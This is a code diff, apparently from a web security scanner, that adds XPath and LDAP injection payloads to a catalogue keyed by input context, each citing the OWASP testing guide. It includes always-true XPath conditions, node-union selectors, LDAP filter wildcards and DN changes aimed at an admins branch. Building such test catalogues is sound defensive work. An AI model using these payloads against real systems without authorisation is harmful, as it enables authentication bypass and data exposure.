@@ -30,6 +30,8 @@ const WSTG_SSRF = "OWASP WSTG-INPV-19 Testing for Server-Side Request Forgery";
 const WSTG_REDIRECT = "OWASP WSTG-CLNT-04 Testing for Client-side URL Redirect";
 const WSTG_NOSQL = "OWASP WSTG-INPV-05.6 Testing for NoSQL Injection";
 const WSTG_HPP = "OWASP WSTG-INPV-04 Testing for HTTP Parameter Pollution";
+const WSTG_XPATH = "OWASP WSTG-INPV-09 Testing for XPath Injection";
+const WSTG_LDAP = "OWASP WSTG-INPV-06 Testing for LDAP Injection";
 
 /** The value a legitimate request would put in a hole of each context. */
 export const BENIGN: Record<ContextId, string> = {
@@ -73,6 +75,12 @@ export const BENIGN: Record<ContextId, string> = {
   "nosql-string": "alice",
   "nosql-js-string": "alice",
   "nosql-js-code": "1",
+  "xpath-string": "alice",
+  "xpath-expression": "1",
+  "ldap-filter": "(uid=alice)",
+  "ldap-filter-value": "alice",
+  "ldap-dn": "uid=alice",
+  "ldap-dn-value": "alice",
 };
 
 const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
@@ -275,6 +283,35 @@ const CATALOGUE: Record<ContextId, readonly PayloadEntry[]> = {
     { text: "1 || true", source: `${WSTG_NOSQL}: $where condition made always true` },
     { text: "1 || sleep(5000)", source: `${WSTG_NOSQL}: $where runs an added call (a time delay)` },
     { text: 'this.constructor.constructor("return process")()', source: `${WSTG_CODEI}: reach the Function constructor from the server's JavaScript` },
+  ],
+
+  // XPath --------------------------------------------------------------------------------------
+  "xpath-string": [
+    { text: "{q} or {q}1{q}={q}1", source: `${WSTG_XPATH}: close the string, add an always-true alternative` },
+    { text: "{q} or 1=1 or {q}{q}={q}", source: `${WSTG_XPATH}: an always-true alternative that survives a following 'and'` },
+    { text: "{q}] | //* | //*[{q}", source: `${WSTG_XPATH}: close the predicate, select every node with a union` },
+  ],
+  "xpath-expression": [
+    { text: "1 or 1=1", source: `${WSTG_XPATH}: an always-true alternative` },
+    { text: "1] | //* | //*[1", source: `${WSTG_XPATH}: close the predicate, select every node with a union` },
+  ],
+
+  // LDAP -----------------------------------------------------------------------------------------
+  "ldap-filter-value": [
+    { text: "*", source: `${WSTG_LDAP}: a wildcard turns an equality test into a presence test` },
+    { text: "*)(objectClass=*", source: `${WSTG_LDAP}: close the item, add a filter component` },
+    { text: "*{v}", source: `${WSTG_LDAP}: a leading wildcard widens an exact or prefix match` },
+    { text: "*)(uid=*))(|(uid=*", source: `${WSTG_LDAP}: close the filter and start another (only servers that ignore trailing text accept it)` },
+  ],
+  "ldap-filter": [
+    { text: "(objectClass=*)", source: `${WSTG_LDAP}: a filter that matches every entry` },
+  ],
+  "ldap-dn-value": [
+    { text: "{v},ou=admins", source: `${WSTG_LDAP}: an added RDN moves the DN to another branch of the tree` },
+    { text: "{v}+uid=admin", source: `${WSTG_LDAP}: a multi-valued RDN` },
+  ],
+  "ldap-dn": [
+    { text: "uid=admin,ou=admins", source: `${WSTG_LDAP}: a DN in another branch of the tree` },
   ],
 };
 
